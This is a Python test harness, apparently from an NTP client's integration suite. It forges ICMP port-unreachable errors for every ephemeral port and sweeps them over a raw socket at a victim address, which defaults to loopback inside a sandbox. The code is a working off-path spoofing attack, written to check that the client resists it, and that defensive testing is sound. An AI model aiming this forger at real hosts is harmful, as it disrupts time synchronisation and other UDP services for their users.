#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""An off-path attacker for ntpsync's integration tests: forged ICMP port unreachables.

For every port of the ephemeral range (/proc/sys/net/ipv4/ip_local_port_range) it sends
to --victim an ICMP destination unreachable, port unreachable (type 3, code 3) that
quotes an IPv4 header (--victim to --server, UDP) and a UDP header (that port to
--server-port), and nothing after them: what an attacker who knows the addresses but
neither the client's source port nor its request can send.  The kernel delivers such an
error to the client's socket whose port it names.  One sweep of the whole range takes
--sweep seconds; sweeps follow each other until --seconds have passed, or SIGTERM.

It needs CAP_NET_RAW: run it in tests/sandbox.sh, whose root has it in the sandbox's own
network namespace only.  At the end it writes one line to stdout (and appends it to
--log): "forger sweeps=N packets=N ports=LO-HI sweep_ms=MS" (MS: the mean time a sweep
took).
"""

import argparse
import signal
import socket
import struct
import sys
import time

ICMP_DEST_UNREACH = 3
ICMP_PORT_UNREACH = 3
IPPROTO_UDP = 17
IP_HEADER = struct.Struct("!BBHHHBBH4s4s")  # RFC 791, without options
UDP_HEADER = struct.Struct("!HHHH")  # RFC 768
ICMP_HEADER = struct.Struct("!BBHI")  # type, code, checksum, unused (RFC 792)
NTP_REQUEST_LEN = 48  # the quoted IP header says the datagram carried this much
CHUNK = 256  # ports sent between two looks at the clock


def checksum(data):
    """RFC 1071 Internet checksum."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forged_error(victim, server, server_port, port):
    """The ICMP message (header and quote) for the victim's source port."""
    udp_len = UDP_HEADER.size + NTP_REQUEST_LEN
    ip = IP_HEADER.pack(0x45, 0, IP_HEADER.size + udp_len, 0, 0x4000, 64, IPPROTO_UDP, 0,
                        socket.inet_aton(victim), socket.inet_aton(server))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    quote = ip + UDP_HEADER.pack(port, server_port, udp_len, 0)
    message = ICMP_HEADER.pack(ICMP_DEST_UNREACH, ICMP_PORT_UNREACH, 0, 0) + quote
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


class Stop(Exception):
    """Raised from the SIGTERM handler."""


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--victim", default="127.0.0.1", help="the client's address")
    p.add_argument("--server", default="127.0.0.5", help="the server's address")
    p.add_argument("--server-port", type=int, default=123)
    p.add_argument("--sweep", type=float, default=0.5, help="seconds per sweep (0.5)")
    p.add_argument("--seconds", type=float, default=60, help="stop after this long (60)")
    p.add_argument("--ready-file", help="created once the first sweep begins")
    p.add_argument("--log", help="append the summary line here")
    args = p.parse_args(argv)

    with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
        lo, hi = map(int, f.read().split())
    errors = [forged_error(args.victim, args.server, args.server_port, port)
              for port in range(lo, hi + 1)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    dest = (args.victim, 0)

    def on_term(signum, frame):
        raise Stop()

    signal.signal(signal.SIGTERM, on_term)
    sweeps = packets = 0
    start = time.monotonic()
    end = start + args.seconds
    if args.ready_file:
        open(args.ready_file, "w").close()
    try:
        while time.monotonic() < end:
            sweep_start = time.monotonic()
            for i in range(0, len(errors), CHUNK):
                for e in errors[i:i + CHUNK]:
                    sock.sendto(e, dest)
                packets += min(CHUNK, len(errors) - i)
                # keep to the sweep's pace: this chunk's share of args.sweep
                due = sweep_start + args.sweep * (i + CHUNK) / len(errors)
                time.sleep(max(0.0, due - time.monotonic()))
            sweeps += 1
    except Stop:
        pass
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    took = time.monotonic() - start
    line = (f"forger sweeps={sweeps} packets={packets} ports={lo}-{hi} "
            f"sweep_ms={took / max(sweeps, 1) * 1000:.0f}")
    print(line)
    if args.log:
        with open(args.log, "a") as f:
            f.write(line + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
